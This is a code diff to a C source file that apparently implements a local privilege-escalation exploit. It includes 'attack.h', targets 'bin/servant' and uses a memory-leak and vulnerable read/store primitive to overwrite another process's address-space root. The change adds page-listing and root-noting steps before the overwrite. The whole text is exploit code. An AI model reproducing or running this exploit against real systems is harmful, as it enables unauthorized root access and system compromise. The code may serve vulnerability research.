@@ -16,7 +16,7 @@
 #include "attack.h"
 
 #define PROGRAM "bin/servant"
-enum { ROOT_BYTES = 4, TRIES_MAX = 20, ASLEEP_S = 1000, UID_UNKNOWN = -1 };
+enum { ROOT_BYTES = 4, PAGES_MAX = 1024, TRIES_MAX = 20, ASLEEP_S = 1000, UID_UNKNOWN = -1 };
 
 /* In memory that all processes of the attack have. */
 struct shared {
@@ -136,8 +136,10 @@ static bool await_target(pid_t starter, const char *stack, struct target *target
 
 static bool swap(const struct bw_leak *leak, const char *stack)
 {
+	static struct attack_page pages[PAGES_MAX];
 	uint64_t own = (uint64_t)bw_vuln_read(leak->process_as);
 	struct target target;
+	size_t nr_pages;
 	pid_t starter;
 
 	shared->process_as = 0;
@@ -155,7 +157,9 @@ static bool swap(const struct bw_leak *leak, const char *stack)
 		sched_yield();
 	}
 	attack_have_witnessed();
-	/* it gives back what it was given */
+	/* it gives back what it was given, while it runs on the other root to the end */
+	nr_pages = attack_list_pages(leak, target.root, pages, PAGES_MAX);
+	attack_note_root(leak, pages, nr_pages, shared->root);
 	bw_vuln_store(target.as + leak->as_root - own, target.root, ROOT_BYTES);
 	shared->is_over = 1;
 	waitpid(starter, NULL, 0);
